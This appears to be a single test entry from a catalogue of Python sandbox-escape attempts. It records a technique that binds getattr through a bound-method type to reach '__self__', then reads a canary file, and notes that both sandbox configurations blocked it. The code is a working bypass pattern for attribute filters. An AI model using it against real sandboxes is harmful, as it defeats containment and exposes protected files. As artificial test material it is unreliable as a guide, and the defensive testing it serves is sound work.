# Technique   the type of a bound method binds getattr anew
# Mechanism   MethodType(function, object)
# As shipped  failed: AttributeError: the attribute '__self__' is refused: it begins with an underscore
# Unguarded   blocked: openat

maker = type(string.Template("x").substitute)
real = maker(getattr, len)("__sel" + "f__")
return real.open(CANARY_FILE).read()
